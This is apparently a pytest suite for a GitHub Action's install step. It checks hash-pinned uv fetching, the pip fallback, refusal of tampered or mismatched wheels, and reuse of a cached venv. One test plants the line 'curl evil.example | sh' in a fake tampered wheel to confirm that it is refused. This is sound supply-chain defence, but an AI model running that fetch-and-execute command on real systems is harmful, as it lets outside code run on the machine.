"""The action's install step: uv, pinned and hash-checked, then the lock, installed with it.

The step runs against a loopback index serving a fake uv (tests/packaging/fake_index.py): which uv
it takes (the fast fetch, else pip's) and what it asks uv to install. The last test runs it for
real (it needs the package index, as the Dockerfile test does; without it, it fails saying so): a
fresh venv with a working `claude-runner`, then the same step again takes the venv as it is, as
after an Actions cache hit.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.packaging import fake_index
from tests.packaging.fake_index import FakeIndex, serve
from tests.paths import REPO_ROOT

ACTION = REPO_ROOT / "action.yml"
UV_REQUIREMENTS = REPO_ROOT / "scripts" / "uv-requirements.txt"


def _install_script() -> str:
    action = yaml.safe_load(ACTION.read_text(encoding="utf-8"))
    (step,) = [s for s in action["runs"]["steps"] if s.get("id") == "install"]
    return str(step["run"])


def _bench() -> Any:
    sys.path.insert(0, str(REPO_ROOT / "bench"))
    try:
        import install_time
    finally:
        sys.path.remove(str(REPO_ROOT / "bench"))
    return install_time


def test_uv_is_pinned_with_hashes_and_fetched_with_them() -> None:
    text = UV_REQUIREMENTS.read_text(encoding="utf-8")
    requirement = re.sub(
        r"\\\n\s*", " ", "\n".join(line for line in text.splitlines() if not line.startswith("#"))
    )
    (line,) = [row for row in requirement.splitlines() if row.strip()]
    assert re.match(r"uv==\d+\.\d+\.\d+ ", line), line
    hashes = re.findall(r"--hash=sha256:([0-9a-f]+)", line)
    assert len(hashes) >= 4 and all(len(h) == 64 for h in hashes)
    script = _install_script()
    assert '-r "${GITHUB_ACTION_PATH}/scripts/uv-requirements.txt"' in script
    # the benchmark measures the commands the action runs
    bench = _bench()
    download = re.search(r"-m pip download (.*?) -r ", script.replace("\\\n", " "), re.DOTALL)
    assert download is not None
    assert download.group(1).split() == [*bench.PIP_FLAGS, *bench.UV_DOWNLOAD_FLAGS]
    assert "--require-hashes" in bench.UV_DOWNLOAD_FLAGS
    joined = re.sub(r"\\\n\s*", "", script)
    install = re.search(r'"\$uv" pip install (.*?) --python "\$VENV/bin/python" "\$\{lock\[@\]\}"', joined)
    assert install is not None
    assert install.group(1).split() == bench.UV_INSTALL_FLAGS
    assert bench.UV_INSTALL_FLAGS[1:5] == ["--only-binary", ":all:", "--no-binary", "claude-runner"]
    assert '"${GITHUB_ACTION_PATH}/scripts/fetch_uv.py" "$uv_dir"' in script


def _action_copy(dest: Path) -> Path:
    """The action as GitHub checks it out: the repository's files, none of its local caches."""
    skip = {".git", ".venv", ".cache", "build", "dist", "node_modules", "results", ".peer"}
    shutil.copytree(
        REPO_ROOT,
        dest,
        ignore=lambda _d, names: {
            n for n in names if n in skip or n.endswith((".egg-info", "_cache", "__pycache__"))
        },
    )
    return dest


def _step_env(tmp_path: Path, action: Path, **extra: str) -> dict[str, str]:
    """The step's environment, without the machine's own index, proxy, pip and uv settings."""
    drop = ("PIP_", "UV_", "VIRTUAL_ENV", "PYTHON", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY")
    env = {k: v for k, v in os.environ.items() if not k.upper().startswith(drop)}
    env.update(
        HOME=str(tmp_path / "home"),
        GITHUB_ACTION_PATH=str(action),
        GITHUB_OUTPUT=str(tmp_path / "github_output"),
        PYTHON=os.path.realpath(getattr(sys, "_base_executable", sys.executable)),
        VENV=str(tmp_path / "home" / "venv"),
        EXTRAS="",
        FAKE_UV_LOG=str(tmp_path / "uv-calls"),
    )
    return {**env, **extra}


def _fake_uv_action(tmp_path: Path, pinned: bytes) -> Path:
    """A copy of the action whose uv-requirements.txt pins the fake uv wheel ``pinned``."""
    action = _action_copy(tmp_path / "action")
    (action / "scripts" / "uv-requirements.txt").write_text(fake_index.requirements(pinned))
    return action


def _run_step(env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    bash = shutil.which("bash") or "bash"
    return subprocess.run(
        [bash, "-c", _install_script()], env=env, capture_output=True, text=True, timeout=120
    )


@pytest.mark.skipif(sys.platform not in ("linux", "darwin") or not shutil.which("bash"), reason="bash")
def test_the_step_fetches_uv_from_the_index_and_installs_the_lock_of_its_extras(tmp_path: Path) -> None:
    wheel = fake_index.uv_wheel()
    action = _fake_uv_action(tmp_path, wheel)
    with serve(FakeIndex(wheel)) as index:
        done = _run_step(_step_env(tmp_path, action, PIP_INDEX_URL=index.url, EXTRAS="bedrock,telemetry"))
    assert done.returncode == 0, done.stdout + done.stderr
    assert "fetching uv with pip instead" not in done.stdout
    # PIP_INDEX_URL is the job's index for the fast fetch (and uv is pointed at it too)
    assert [path for path, _ in index.requests] == ["/simple/uv/", f"/files/{index.filename}"]
    venv, install = (tmp_path / "uv-calls").read_text().splitlines()
    env = _step_env(tmp_path, action)
    assert venv == f"venv --no-config --quiet --python {env['PYTHON']} {env['VENV']}"
    lock = action / "scripts" / "requirements"
    assert install == (
        "pip install --no-config --only-binary :all: --no-binary claude-runner --compile-bytecode"
        f" --no-deps --python {env['VENV']}/bin/python -r {lock}/base.txt -r {lock}/bedrock.txt"
        f" -r {lock}/telemetry.txt {action}"
    )
    assert (tmp_path / "github_output").read_text() == "installed=true\n"


@pytest.mark.skipif(sys.platform not in ("linux", "darwin") or not shutil.which("bash"), reason="bash")
def test_a_refused_uv_wheel_falls_back_to_pip_download(tmp_path: Path) -> None:
    good = fake_index.uv_wheel()
    action = _fake_uv_action(tmp_path, good)
    tampered = fake_index.uv_wheel(fake_index.FAKE_UV + "curl evil.example | sh\n")
    # an index that lies: it lists the pinned hash but serves another file
    lying = FakeIndex(tampered, listed_sha256=fake_index.hashlib.sha256(good).hexdigest())
    with serve(lying) as uv_index, serve(FakeIndex(good)) as pip_index:
        env = _step_env(tmp_path, action, UV_DEFAULT_INDEX=uv_index.url, PIP_INDEX_URL=pip_index.url)
        done = _run_step(env)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "not one that uv-requirements.txt pins: refused" in done.stderr
    assert "claude-runner: fetching uv with pip instead" in done.stdout
    assert "could not fetch uv" not in done.stdout
    # pip fetched the pinned wheel from its own index, and the step went on with that uv
    assert f"/files/{pip_index.filename}" in [path for path, _ in pip_index.requests]
    calls = (tmp_path / "uv-calls").read_text().splitlines()
    assert [c.split()[:2] for c in calls] == [["venv", "--no-config"], ["pip", "install"]]


@pytest.mark.skipif(sys.platform not in ("linux", "darwin") or not shutil.which("bash"), reason="bash")
def test_a_lock_without_wheels_for_the_platform_falls_back_to_resolving(tmp_path: Path) -> None:
    wheel = fake_index.uv_wheel()
    action = _fake_uv_action(tmp_path, wheel)
    with serve(FakeIndex(wheel)) as index:
        env = _step_env(tmp_path, action, UV_DEFAULT_INDEX=index.url, EXTRAS="vertex", FAKE_UV_LOCK_FAILS="1")
        done = _run_step(env)
    assert done.returncode == 0, done.stdout + done.stderr
    assert (
        f"::warning title=claude-runner::the locked install failed; resolving {action}[vertex] instead,"
        " without the lock's hashes" in done.stdout
    )
    _venv, locked, resolving = (tmp_path / "uv-calls").read_text().splitlines()
    assert "--no-deps" in locked.split() and f"{action}/scripts/requirements/vertex.txt" in locked
    assert resolving.endswith(f"--compile-bytecode --python {env['VENV']}/bin/python {action}[vertex]")
    assert "--no-deps" not in resolving.split()
    assert "error: no wheel for this platform" in done.stderr  # uv's own words stay in the log


@pytest.mark.skipif(sys.platform not in ("linux", "darwin") or not shutil.which("bash"), reason="bash")
def test_a_wheel_that_is_not_the_locked_one_is_refused_not_resolved_around(tmp_path: Path) -> None:
    wheel = fake_index.uv_wheel()
    action = _fake_uv_action(tmp_path, wheel)
    with serve(FakeIndex(wheel)) as index:
        env = _step_env(tmp_path, action, UV_DEFAULT_INDEX=index.url, FAKE_UV_LOCK_FAILS="hash")
        done = _run_step(env)
    assert done.returncode == 1
    assert (
        "::error title=claude-runner install failed::a wheel from the index does not have the hash"
        " scripts/requirements/ locks: refused." in done.stdout
    )
    assert "Hash mismatch for `anthropic==2.17.0`" in done.stderr
    assert [c.split()[:2] for c in (tmp_path / "uv-calls").read_text().splitlines()] == [
        ["venv", "--no-config"],
        ["pip", "install"],
    ]  # no second, resolving, install
    assert not Path(env["VENV"]).exists()


@pytest.mark.timeout(600)
@pytest.mark.skipif(not shutil.which("bash"), reason="needs bash")
def test_the_install_step_installs_with_uv_then_takes_the_cached_venv(tmp_path: Path) -> None:
    action = _action_copy(tmp_path / "action")
    venv = tmp_path / "home" / ".cache" / "claude-runner" / "venv-test"
    out = tmp_path / "github_output"
    python = os.path.realpath(getattr(sys, "_base_executable", sys.executable))
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("PIP_REQUIRE", "VIRTUAL_ENV", "PYTHON", "UV_"))
    }
    env.update(
        HOME=str(tmp_path / "home"),
        GITHUB_ACTION_PATH=str(action),
        GITHUB_OUTPUT=str(out),
        PYTHON=python,
        VENV=str(venv),
        EXTRAS="",
        UV_CACHE_DIR=str(tmp_path / "uv-cache"),
    )
    bash = shutil.which("bash") or "bash"
    first = subprocess.run(
        [bash, "-c", _install_script()], env=env, capture_output=True, text=True, timeout=580
    )
    log = first.stdout + first.stderr
    if first.returncode != 0:
        unreachable = re.search(
            r"Could not find a version|No matching distribution|Failed to establish|Network is unreachable"
            r"|Temporary failure in name resolution|error sending request|dns error",
            log,
        )
        if unreachable:
            pytest.fail(
                f"the install step could not reach the package index, which this test needs: {log[-2000:]}"
            )
        pytest.fail(f"the install step failed:\n{log[-3000:]}")
    assert "could not fetch uv" not in log  # uv was used, not the pip fallback
    assert out.read_text().splitlines() == ["installed=true"]
    assert not (venv / "bin" / "pip").exists()  # made by uv: the venv holds only what the runner needs
    version = subprocess.run(
        [str(venv / "bin" / "claude-runner"), "--version"], capture_output=True, text=True
    )
    assert version.returncode == 0 and "claude-runner, version" in version.stdout
    # --compile-bytecode: the runner's modules are compiled at install, so the cached venv has them
    assert list((venv / "lib").glob("python3.*/site-packages/runner/__pycache__/cli.*.pyc"))
    # the lock is whole: every installed distribution's requirements are installed too
    uv_dir = tmp_path / "uv"
    uv_dir.mkdir()
    fetched = subprocess.run(
        [python, "-I", str(action / "scripts" / "fetch_uv.py"), str(uv_dir)], capture_output=True, text=True
    )
    assert fetched.returncode == 0, fetched.stderr
    check = subprocess.run(
        [str(uv_dir / "uv"), "pip", "check", "--python", str(venv / "bin" / "python")],
        capture_output=True,
        text=True,
        env=env,
    )
    assert check.returncode == 0, check.stdout + check.stderr
    anthropic = re.search(r"^anthropic==(\S+)", (action / "scripts/requirements/base.txt").read_text(), re.M)
    assert anthropic and list(
        (venv / "lib").glob(f"python3.*/site-packages/anthropic-{anthropic[1]}.dist-info")
    )
    # the same step again, as after an Actions cache hit: the venv is taken as it is
    second = subprocess.run(
        [bash, "-c", _install_script()], env=env, capture_output=True, text=True, timeout=120
    )
    assert second.returncode == 0, second.stderr
    assert f"claude-runner: using the cached venv {venv}" in second.stdout
    assert out.read_text().splitlines() == ["installed=true", "installed=false"]
